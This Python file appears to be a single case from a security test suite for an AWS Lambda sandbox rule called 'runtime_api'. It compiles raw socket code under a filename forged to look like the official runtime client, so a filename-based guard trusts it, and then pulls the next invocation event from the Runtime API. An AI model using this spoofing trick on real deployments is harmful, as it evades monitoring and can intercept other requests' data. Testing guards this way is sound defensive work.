# class: lambda
# rule: runtime_api
# success: the next event is taken from the Runtime API by code whose file has the runtime client's
#   name
# proof: api
import _thread
import os
import threading

from attack import API, attempt

ASK = """
import _socket
def ask(place, out, done):
    made = _socket.socket()
    made.settimeout(3)
    made.connect(place)
    made.send(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    out.append(made.recv(100))
    done.set()
"""


@attempt
def take():
    folder = os.environ.get("LAMBDA_RUNTIME_DIR")
    if not folder:
        # The package that says first that it is the client is believed.
        folder = "/var/lang/lib/python3.13/site-packages"
        exec(compile("pass", folder + "/awslambdaric/__init__.py", "exec"), {})
    names, out, done = {}, [], threading.Event()
    exec(compile(ASK, folder + "/awslambdaric/lambda_runtime_client.py", "exec"), names)
    _thread.start_new_thread(names["ask"], (API, out, done))
    done.wait(5)
    return bool(out)
